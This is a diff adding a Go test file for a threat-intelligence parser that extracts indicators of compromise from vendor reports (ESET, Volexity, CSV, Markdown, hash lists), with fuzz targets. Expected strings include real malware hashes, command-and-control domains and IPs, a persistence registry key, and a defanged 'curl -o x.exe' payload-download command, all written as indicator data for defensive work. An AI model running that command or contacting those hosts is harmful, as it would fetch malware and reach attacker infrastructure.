@@ -1,0 +1,419 @@
+package parse_test
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/rulegen/rulegen/generate/internal/defang"
+	"github.com/rulegen/rulegen/generate/internal/golden"
+	"github.com/rulegen/rulegen/generate/parse"
+	"github.com/rulegen/rulegen/generate/report"
+)
+
+// readOne reads a file or a publication folder that holds one report.
+func readOne(t *testing.T, path string, opts parse.Options) *report.Report {
+	t.Helper()
+	var got []*report.Report
+	if err := parse.ReadFile(path, opts, func(r *report.Report) error { got = append(got, r); return nil }); err != nil {
+		t.Fatal(err)
+	}
+	if len(got) != 1 {
+		t.Fatalf("%s: %d reports, want 1", path, len(got))
+	}
+	return got[0]
+}
+
+// vendorPath is a file of the vendors' publications copied into testdata/vendor.
+func vendorPath(t *testing.T, parts ...string) string {
+	return filepath.Join(append([]string{golden.RepoRoot(t), "testdata", "vendor"}, parts...)...)
+}
+
+// stated lists what a report states as "type value" lines (objects as "object: rel=value,
+// rel=value"), with unusable values as "type value !reason", in order.
+func stated(r *report.Report) []string {
+	var out []string
+	for _, a := range r.Attributes {
+		line := a.Type + " " + a.Value
+		if a.Unusable != "" {
+			line += " !" + a.Unusable
+		}
+		out = append(out, line)
+	}
+	for _, o := range r.Objects {
+		var parts []string
+		for _, a := range o.Attributes {
+			parts = append(parts, a.Rel()+"="+a.Value)
+		}
+		line := o.Name + ": " + strings.Join(parts, ", ")
+		if o.Seen.First != "" || o.Seen.Last != "" {
+			line += " seen " + o.Seen.First + ".." + o.Seen.Last
+		}
+		out = append(out, line)
+	}
+	return out
+}
+
+func wantStated(t *testing.T, r *report.Report, want ...string) {
+	t.Helper()
+	got := stated(r)
+	for _, w := range want {
+		if !slices.Contains(got, w) {
+			t.Errorf("%s: missing %q; it states:\n  %s", r.Source, w, strings.Join(got, "\n  "))
+			return
+		}
+	}
+}
+
+// ESET's AsciiDoc: tables whose rows are samples (hash, name, detection, description) and
+// network objects (address, names, first seen), hash blocks under typed headings, bullet lists
+// of mutexes and paths, lists of what is no indicator (accounts, Tox ids, detection names, keys).
+func TestESETAsciiDoc(t *testing.T) {
+	r := readOne(t, vendorPath(t, "eset", "cosmicbeetle", "README.adoc"), parse.Options{})
+	if r.Title != "Scarabs colon-izing vulnerable servers – Indicators of Compromise" || r.Date != "2023-11-04" {
+		t.Errorf("title %q, date %q (want the newest first-seen)", r.Title, r.Date)
+	}
+	wantStated(t, r,
+		"file: sha1=40B8AF12EA6F89DB6ED635037F468AADEE7F4CA6, filename=app.exe",
+		// a cell continued over four lines, its detection names describing the sample
+		"file: sha1=705280A2DCC311B75AF1619B4BA29E3622ED53B6, filename=Rarlab_sib.msi",
+		"domain-ip: ip=193.37.69.153, domain=up.vctel.com, domain=u.cbu.net, domain=update.cbu.net seen 2021-12-11..",
+		"domain-ip: domain=u.piii.net seen 2022-01-25..",
+		"domain-ip: ip=66.29.141.245, domain=www.lockbitblog.info seen 2023-11-04..",
+		"mutex {46E4D4E6-8B81-84CA-93DA-BB29377B2AC0}",
+		`file: fullpath=%USERPROFILE%\Music\`,
+		"text support !an account name: too generic for a rule",
+		"text Namecheap, Inc. !network context (hosting provider, ASN, country), not an indicator",
+		"url http://nonamef5njcxkghbjequlibwe5d3t3li5tmyqdyarnrsryopvku76wqd.onion",
+		"email-src decservice@ukr.net",
+		"link https://www.welivesecurity.com/en/eset-research/scarabs-colon-izing-vulnerable-servers/",
+	)
+	for _, o := range r.Objects {
+		if o.Attributes[0].Value == "705280A2DCC311B75AF1619B4BA29E3622ED53B6" && !strings.Contains(o.Description, "BAT/Agent.OPN") {
+			t.Errorf("multi-line cell lost: %q", o.Description)
+		}
+	}
+
+	r = readOne(t, vendorPath(t, "eset", "blacklotus", "README.adoc"), parse.Options{})
+	if r.Title != "BlackLotus -- Indicators of Compromise" || r.Date != "2023-03-01" {
+		t.Errorf("title %q, date %q (want the date in the blog post's address)", r.Title, r.Date)
+	}
+	wantStated(t, r,
+		"sha1 dae7e7c4eec2ac0dc7963c44a5a4f47d930c5508",
+		"url harrysucksdick.com/API/hpb_gate.php",
+		"text Win64/BlackLotus !a detection name, not an indicator",
+		"text -----BEGIN PUBLIC KEY----- !a cryptographic key, not an indicator",
+	)
+	for _, a := range r.Attributes {
+		if a.Type == "sha1" && a.Value == "dae7e7c4eec2ac0dc7963c44a5a4f47d930c5508" && a.Comment != "BlackLotus Installer" {
+			t.Errorf("a hash under a sub-heading is described by it: %q", a.Comment)
+		}
+		if a.Type == "text" && a.Unusable == "" {
+			t.Errorf("line %d: prose listed as text: %q", a.Pos.Line, a.Value)
+		}
+	}
+}
+
+// A publication folder is one report: ESET's README with its samples.* lists, each hash once,
+// with its name where the table gives one.
+func TestPublicationFolder(t *testing.T) {
+	dir := vendorPath(t, "eset", "cosmicbeetle")
+	r := readOne(t, dir, parse.Options{})
+	if r.Format != "publication" || r.Source != dir {
+		t.Errorf("format %q, source %q", r.Format, r.Source)
+	}
+	hashes := map[string]int{}
+	for _, a := range r.Attributes {
+		if len(a.Value) == 32 || len(a.Value) == 40 || len(a.Value) == 64 {
+			hashes[strings.ToLower(a.Value)]++
+		}
+	}
+	for _, o := range r.Objects {
+		for _, a := range o.Attributes {
+			if a.Rel() == "sha1" {
+				hashes[strings.ToLower(a.Value)]++
+			}
+		}
+	}
+	for _, list := range []string{"samples.md5", "samples.sha1", "samples.sha256"} {
+		data, err := os.ReadFile(filepath.Join(dir, list))
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, h := range strings.Fields(string(data)) {
+			if hashes[h] != 1 {
+				t.Errorf("%s: %s stated %d times, want once", list, h, hashes[h])
+			}
+		}
+	}
+}
+
+// Volexity's CSV (value, entity_type, description) and its YARA rules make one report, dated
+// by the folder's name.
+func TestVolexityFolder(t *testing.T) {
+	r := readOne(t, vendorPath(t, "volexity", "2026-06-04-VerdantBamboo"), parse.Options{})
+	if r.Title != "VerdantBamboo" || r.Date != "2026-06-04" {
+		t.Errorf("title %q, date %q", r.Title, r.Date)
+	}
+	wantStated(t, r,
+		"file: sha256=dfb37247d12351ef9708cb6631ce2d7017897503657c6b882a711c0da8a9a591",
+		"domain-ip: domain=calixcloudinfo.com",
+		"domain-ip: ip=149.248.11.71",
+	)
+	yaras := 0
+	for _, a := range r.Attributes {
+		if a.Type == "yara" && strings.Contains(a.Value, "rule apt_malware_golang_brickstorm_b") && a.ToIDS {
+			yaras++
+		}
+	}
+	if yaras != 1 {
+		t.Errorf("rules.yar: %d yara attributes, want 1", yaras)
+	}
+}
+
+// CSV: a byte-order mark, CRLF, quoted commas, type words (FileHash-SHA1, IPv4 with a port),
+// a Description row that is the report's link and title, values typed by shape.
+func TestCSV(t *testing.T) {
+	r := readOne(t, vendorPath(t, "variants", "2024-06-02-fake-update.csv"), parse.Options{})
+	if r.Title != "Fake update campaign, staged through a loader" || r.Date != "2024-06-02" {
+		t.Errorf("title %q, date %q", r.Title, r.Date)
+	}
+	wantStated(t, r,
+		"link https://example-research.org/2024/06/02/fake-update-campaign/",
+		"domain-ip: domain=update-check.top",
+		"domain-ip: url=https://update-check.top/api/v2?id=1",
+		"file: filename=Update Installer.exe",
+		"domain-ip: ip-dst|port=5.2.72.15|8443",
+		"domain-ip: ip=203.0.113.9",
+		"text not-a-hash",
+	)
+	for _, o := range r.Objects {
+		if o.Attributes[0].Value == "https://update-check.top/api/v2?id=1" && o.Description != "C2, check-in" {
+			t.Errorf("quoted note with a comma: %q", o.Description)
+		}
+	}
+	tsv := readOne(t, vendorPath(t, "variants", "2024-06-06-tab-separated.tsv"), parse.Options{})
+	wantStated(t, tsv, "domain-ip: domain=bad-actor.xyz")
+
+	for name, data := range map[string]string{
+		"2024-01-01-noheader.csv": "1.2.3.4,5.6.7.8\n",
+		"2024-01-01-quote.csv":    "value,type\n\"evil.com,domain\n",
+		"2024-01-01-empty.csv":    "\ufeff\r\n",
+	} {
+		err := parse.Each(name, []byte(data), parse.Options{}, func(*report.Report) error { return nil })
+		if !errors.Is(err, parse.ErrInput) || !strings.HasPrefix(err.Error(), name+":") {
+			t.Errorf("%s: %v, want an input error naming the file and line", name, err)
+		}
+	}
+}
+
+// Markdown: pipe tables whose rows are objects (a sample with its name, size and first seen;
+// an address with its port, two names and both dates), headed lists, a Published: date.
+func TestMarkdownDocument(t *testing.T) {
+	r := readOne(t, vendorPath(t, "variants", "2024-06-03-markdown-tables.md"), parse.Options{})
+	if r.Format != "document" || r.Title != "Operation Example: indicators of compromise" || r.Date != "2024-06-03" {
+		t.Errorf("format %q, title %q, date %q", r.Format, r.Title, r.Date)
+	}
+	wantStated(t, r,
+		"file: sha256=b210027520bd3c426e23491dc2bce9ea9d6335b24bda79cdd5d7fffee67ae356, filename=loader.dll, size-in-bytes=204800 seen 2024-05-30..",
+		"domain-ip: ip=5.2.72.16, port=443, domain=cdn-update.top, domain=api.cdn-update.top seen 2024-05-01..2024-05-29",
+		"domain-ip: domain=static.cdn-update.top seen 2024-05-02..",
+		`mutex Global\ExampleLoaderMtx_31`,
+		`file: fullpath=%APPDATA%\ExampleSoft\loader.dll`,
+		`regkey HKCU\Software\Microsoft\Windows\CurrentVersion\Run\ExampleSoftUpdater`,
+		"link https://example-research.org/2024/06/03/operation-example/",
+	)
+}
+
+// Sectioned text (Unit42's shape): labelled lines typed by their labels, a group of a file's
+// lines one object, SECTION: lines typing the bullets under them, two URLs on one line, a URL
+// in another's query refanged, code and commands kept out, labels that say "not an indicator".
+func TestSectionedText(t *testing.T) {
+	r := readOne(t, vendorPath(t, "variants", "2024-05-01-sectioned-text.txt"), parse.Options{})
+	if r.Title != "sectioned text" || r.Date != "2024-05-01" {
+		t.Errorf("title %q, date %q", r.Title, r.Date)
+	}
+	wantStated(t, r,
+		`file: sha256=ec4d14d3878bc88200ebad2736118ce6a3d7e12e117f97e7f06e54514d83c1f9, size-in-bytes=563096, filename=Document_39.js, fullpath=C:\Users\[username]\AppData\Local\Temp\Document_39.js`,
+		"ip-dst|port 45.95.11.134|443",
+		"domain riscoarchez.com",
+		"url https://files.evil-cdn.top/upd/second.msi",
+		"url https://t.co/r?u=https://redir.evil-cdn.top/gate",
+		"url blob:https://files.evil-cdn.top/6b3e",
+		"domain trushoper.com",
+		"domain aprettopizza.world",
+		"ip-dst|port 91.92.240.71|8080",
+		"text socket=io(`hxxps://sock.evil-cdn[.]top/io`)",
+		"text curl -o x.exe hxxp://45.95.11[.]135/x.exe",
+		"text NameCheap, Inc. !registration data (registrar, registrant, name server), not an indicator",
+		"domain dns1.registrar-servers.com !registration data (registrar, registrant, name server), not an indicator",
+		"domain www.msftconnecttest.com !labelled legitimate or benign by the publication",
+		"link https://example-research.org/2024/05/01/loader-from-js-file/",
+	)
+	for _, a := range r.Attributes {
+		if a.Type == "sha256" && !strings.HasPrefix(a.Comment, "SHA256 HASHES") && a.Comment != "second DLL" {
+			t.Errorf("line %d: a hash under a section: comment %q", a.Pos.Line, a.Comment)
+		}
+	}
+}
+
+// Hash lists: a hash a line, with sha256sum's "hash  name" and "hash *name"; the folder names
+// and dates a list with a generic name.
+func TestHashList(t *testing.T) {
+	r := readOne(t, vendorPath(t, "variants", "2024-06-04-hash-list", "samples.sha256"), parse.Options{})
+	if r.Title != "hash list" || r.Date != "2024-06-04" {
+		t.Errorf("title %q, date %q", r.Title, r.Date)
+	}
+	var names []string
+	for _, o := range r.Objects {
+		names = append(names, o.Attributes[1].Value)
+	}
+	if !slices.Equal(names, []string{"invoice_0423.exe", "stage2.dll"}) || len(r.Attributes) != 2 || r.Attributes[1].Type != "text" {
+		t.Errorf("objects %v, attributes %v", stated(r), r.Attributes)
+	}
+}
+
+// A folder with a document, a CSV, an export and YARA files: one report, each sample once, the
+// export's id, TLP and to_ids respected.
+func TestPublicationWithExport(t *testing.T) {
+	r := readOne(t, vendorPath(t, "variants", "2024-06-05-with-export"), parse.Options{})
+	if r.ID != "5f0c2a8e-3d1b-4c6e-9a7f-2b8d4e6f1a3c" || r.Title != "Harvest Lynx campaign" || r.Date != "2024-06-05" || !slices.Contains(r.Tags, "tlp:amber") {
+		t.Errorf("id %q, title %q, date %q, tags %v", r.ID, r.Title, r.Date, r.Tags)
+	}
+	files := 0
+	for _, o := range r.Objects {
+		if o.Name == "file" {
+			files++
+		}
+	}
+	if files != 1 {
+		t.Errorf("%d file objects, want the one sample: %v", files, stated(r))
+	}
+	for _, a := range append(r.Attributes, r.Objects[len(r.Objects)-1].Attributes...) {
+		if strings.Contains(a.Value, "lynx-update.org") && a.ToIDS {
+			t.Errorf("%s: %q flagged, though the export does not flag it", a.Pos, a.Value)
+		}
+	}
+	yaras := 0
+	for _, a := range r.Attributes {
+		if a.Type == "yara" {
+			yaras++
+		}
+	}
+	if yaras != 2 {
+		t.Errorf("%d YARA files, want 2", yaras)
+	}
+}
+
+// Dates a publication states in other words, and the error when it states none.
+func TestPublicationDates(t *testing.T) {
+	for src, want := range map[string]string{
+		"= T\n:revdate: 2023-07-14\n\n== Hashes\n----\nd41d8cd98f00b204e9800998ecf8427f\n----\n": "2023-07-14",
+		"# T\nDate: March 1, 2023\n\n- evil[.]com\n":                                         "2023-03-01",
+		"# T\nSee https://blog.example.org/2022/10/05/post/\n\n- evil[.]com\n":                 "2022-10-05",
+	} {
+		name := "doc.md"
+		if strings.HasPrefix(src, "=") {
+			name = "doc.adoc"
+		}
+		var got *report.Report
+		if err := parse.Each(name, []byte(src), parse.Options{}, func(r *report.Report) error { got = r; return nil }); err != nil {
+			t.Errorf("%q: %v", src, err)
+			continue
+		}
+		if got.Date != want {
+			t.Errorf("%q: date %q, want %q", src, got.Date, want)
+		}
+	}
+	err := parse.Each("notes/doc.md", []byte("# T\n\n- evil[.]com\n"), parse.Options{}, func(*report.Report) error { return nil })
+	if !errors.Is(err, parse.ErrInput) || !strings.Contains(err.Error(), "notes/doc.md") || !strings.Contains(err.Error(), "--date") {
+		t.Errorf("undated: %v", err)
+	}
+}
+
+// Sniffing by name and content: vendors' Markdown is a document, a MISP rendering is not.
+func TestSniffFile(t *testing.T) {
+	for name, want := range map[string]parse.Format{
+		"iocs.csv": parse.FormatCSV, "x.TSV": parse.FormatCSV, "README.adoc": parse.FormatDocument, "rules.yar": parse.FormatYARA,
+		"samples.sha256": parse.FormatHashes, "samples.txt": parse.FormatHashes, "list.txt": parse.FormatIOCs,
+		"README.md": parse.FormatDocument, "event.json": parse.FormatMISP,
+	} {
+		if got := parse.SniffFile(name, []byte(`{"Event": {}}`)); name != "README.md" && got != want {
+			t.Errorf("%s: %q, want %q", name, got, want)
+		}
+	}
+	if got := parse.SniffFile("x.md", []byte("# Threat Report: 2020-01-01: X\n")); got != parse.FormatMarkdown {
+		t.Errorf("a MISP rendering: %q", got)
+	}
+	if got := parse.SniffFile("x.md", []byte("# X\n| SHA256 |\n|---|\n")); got != parse.FormatDocument {
+		t.Errorf("a vendor's Markdown: %q", got)
+	}
+}
+
+// precise checks what every reader must hold to: a value it states as an indicator appears,
+// refanged, in what it read (no invented or half-refanged values).
+func precise(t *testing.T, data []byte, r *report.Report) {
+	t.Helper()
+	text := strings.ToLower(defang.Refang(string(data)))
+	check := func(a report.Attribute) {
+		if a.Type == "text" || a.Type == "link" || a.Type == "yara" || a.Type == "size-in-bytes" || a.Rel() == "size-in-bytes" || strings.Contains(a.Value, `"`) {
+			return
+		}
+		for _, part := range strings.Split(a.Value, "|") {
+			if !strings.Contains(text, strings.ToLower(part)) {
+				t.Fatalf("%s: %s %q is not in the input", a.Pos, a.Type, part)
+			}
+		}
+	}
+	for _, a := range r.Attributes {
+		check(a)
+	}
+	for _, o := range r.Objects {
+		for _, a := range o.Attributes {
+			check(a)
+		}
+	}
+}
+
+func fuzzVendor(f *testing.F, name string, seeds ...string) {
+	for _, s := range seeds {
+		if b, err := os.ReadFile(filepath.Join("..", "..", "testdata", "vendor", s)); err == nil {
+			f.Add(b)
+		}
+	}
+	f.Fuzz(func(t *testing.T, data []byte) {
+		err := parse.Each(name, data, parse.Options{Date: "2024-01-01"}, func(r *report.Report) error {
+			precise(t, data, r)
+			return nil
+		})
+		var inputErr *parse.InputError
+		if err != nil && !errors.As(err, &inputErr) {
+			t.Fatalf("not an input error: %v", err)
+		}
+	})
+}
+
+// Each reader's fuzz target: any input gives a report whose values are all in the input, or an
+// input error naming the file.
+func FuzzCSV(f *testing.F) {
+	fuzzVendor(f, "fuzz.csv", "variants/2024-06-02-fake-update.csv", "volexity/2026-06-04-VerdantBamboo/iocs.csv", "variants/2024-06-06-tab-separated.tsv")
+}
+
+func FuzzAsciiDoc(f *testing.F) {
+	fuzzVendor(f, "fuzz.adoc", "eset/cosmicbeetle/README.adoc", "eset/blacklotus/README.adoc")
+}
+
+func FuzzMarkdownDocument(f *testing.F) {
+	fuzzVendor(f, "fuzz-doc.md", "variants/2024-06-03-markdown-tables.md", "variants/2024-06-05-with-export/README.md")
+}
+
+func FuzzSectionedText(f *testing.F) {
+	fuzzVendor(f, "fuzz.txt", "variants/2024-05-01-sectioned-text.txt")
+}
+
+func FuzzHashList(f *testing.F) {
+	fuzzVendor(f, "fuzz.sha256", "variants/2024-06-04-hash-list/samples.sha256", "eset/blacklotus/samples.md5")
+}
